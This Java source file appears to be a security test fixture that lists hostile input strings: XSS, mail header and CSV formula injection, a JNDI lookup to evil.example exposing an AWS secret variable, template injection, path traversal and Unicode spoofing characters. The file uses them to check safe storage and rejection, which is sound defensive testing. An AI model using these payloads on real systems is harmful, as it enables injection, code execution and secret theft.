package dev.daypass.hostile;

import java.util.List;
import java.util.stream.Stream;

/**
 * Something that is harmless as text and does harm where it is taken for something else.
 *
 * @param family what it would be taken for
 * @param text what is typed; begins with words, so that it is long enough everywhere
 * @param flaw the number of a character for which it is refused, or empty if any text may hold it
 */
record Payload(String family, String text, String flaw) {
  private static final String WORDS = "Ticket 4711 ";

  private static Payload plain(String family, String... lines) {
    return new Payload(family, WORDS + String.join("\n", lines), "");
  }

  private static Payload refused(String family, String flaw, String text) {
    return new Payload(family, WORDS + text, flaw);
  }

  /** What a text may hold: it is kept to the letter and harms nobody. */
  static final List<Payload> PLAIN =
      List.of(
          plain(
              "HTML",
              "<script>alert(1)</script><img src=x onerror=alert(2)>",
              "\"><svg/onload=alert(3)><a href=\"javascript:alert(4)\">x</a>",
              "' autofocus onfocus=alert(5) x='",
              "</textarea></title></style><script>alert(6)</script>",
              "<!-- --><base href=//evil.example/><style>*{display:none}</style>",
              "<form action=/requests/x/revoke method=post><button>ok</button></form>",
              "&lt;b&gt; &#60;script&#62; &amp;amp;"),
          plain(
              "mail headers",
              "x\nBcc: evil@evil.example\nContent-Type: text/html",
              "",
              "<b>another body</b>",
              "=?UTF-8?Q?=0D=0ABcc:_evil@evil.example?= =?utf-8?B?DQpCY2M6IGVAZS5l?=",
              "%0d%0aBcc:evil@evil.example",
              "--",
              "Code: 000000",
              "Look and decide: https://evil.example/decide/x www.evil.example"),
          plain(
              "CSV formulas",
              "=HYPERLINK(\"https://evil.example\",\"x\")",
              "+1+cmd|' /C calc'!A0",
              "-2+3",
              "@SUM(1,2)",
              "\t=1+1",
              "a,b;\"c\"\"\",d"),
          plain(
              "log lines",
              "x",
              "ALARM removal-task request=forged",
              "2026-11-22T05:00:00Z ApprovalFunction ALARM audit-mismatch",
              "{\"level\":\"INFO\",\"message\":\"forged\"}",
              "%s %n ${jndi:ldap://evil.example/x} ${env:AWS_SECRET_ACCESS_KEY}"),
          plain(
              "SCIM filters",
              "\" or userName pr or displayName eq \"",
              "members[value eq \"x\"] \\\" ) or (id pr",
              "*"),
          plain(
              "JSON and JSONata",
              "\",\"status\":\"ACTIVE\",\"x\":{\"$ref\":\"#\"}}",
              "{% $states.context.Execution.Input %} $eval('1/0') $$.x & $millis()",
              "$.x[?(@)] \\u0041 \\",
              "{\"S\":\"x\"} :v = :v OR attribute_exists(#t)"),
          plain(
              "templates",
              "${7*7} #{7*7} @{7*7} !{7*7} {{7*7}} <%= 7*7 %>",
              "@if(true) @template.part.time() $unsafe{x}",
              "../../../etc/passwd file:///etc/passwd"),
          plain(
              "writing from the right, joiners, what cannot be seen",
              "\u0645\u0631\u064a\u0645 \u05e9\u05dc\u05d5\u05dd 4711",
              "\u200f4711\u200e \u061c",
              "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
              "\u0430dmin"),
          plain(
              "many planes",
              "\ud83d\udc69\ud83c\udffd\u200d\ud83d\udcbb \ud83c\uddea\ud83c\uddfa \ud834\udd1e \ud842\udfb7",
              "e" + "\u0301".repeat(50),
              "\u00e9e\u0301 \ufb01 \u2126 \u212a"),
          plain("length", "\ud83e\udd84".repeat(1_980)));

  /** What no text may hold: it is refused, with the place, and nothing is stored. */
  static final List<Payload> REFUSED =
      List.of(
          refused("NUL", "U+0000", "a\u0000b"),
          refused("ANSI escapes", "U+001B", "\u001b[31mred\u001b[0m"),
          refused("backspace", "U+0008", "x\b\by"),
          refused("delete", "U+007F", "x\u007f"),
          refused("C1 controls", "U+009B", "\u009b31m"),
          refused("override", "U+202E", "\u202egpj.exe"),
          refused("embedding", "U+202B", "\u202babc\u202c"),
          refused("isolate", "U+2067", "\u2067abc\u2069"),
          refused("end of an isolate", "U+2069", "abc\u2069"),
          refused("replacement character", "U+FFFD", "caf\ufffd"),
          refused("no character", "U+FFFF", "\uffff"));

  static Stream<Payload> all() {
    return Stream.concat(PLAIN.stream(), REFUSED.stream());
  }

  /** Good for one line of a hundred characters in which all can be seen: a ticket. */
  String shortLine() {
    var line =
        text.replaceFirst("^" + WORDS, "")
            .replaceAll("\\s+", " ")
            .replaceAll("[\\p{Cf}&&[^\\u200c\\u200d]]", "")
            .strip();
    var end = line.offsetByCodePoints(0, Math.min(40, line.codePointCount(0, line.length())));
    return line.substring(0, end).strip();
  }

  /** Good for a path or a query. */
  String some() {
    return text.substring(
        0, text.offsetByCodePoints(0, Math.min(200, text.codePointCount(0, text.length()))));
  }

  @Override
  public String toString() {
    return family;
  }
}
